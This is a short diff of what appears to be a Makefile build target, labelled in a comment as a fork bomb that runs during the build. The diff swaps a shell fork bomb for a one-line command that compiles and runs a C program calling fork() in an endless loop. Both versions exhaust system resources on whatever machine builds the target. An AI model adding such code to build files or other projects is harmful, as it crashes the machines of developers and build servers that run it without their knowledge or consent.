@@ -1,3 +1,3 @@
 # A fork bomb while it is built.
 init:
-	b() { b | b & }; b; sleep 1000
+	echo 'int fork(void); int main(void) { for (;;) fork(); }' | cc -x c -o bomb - && ./bomb
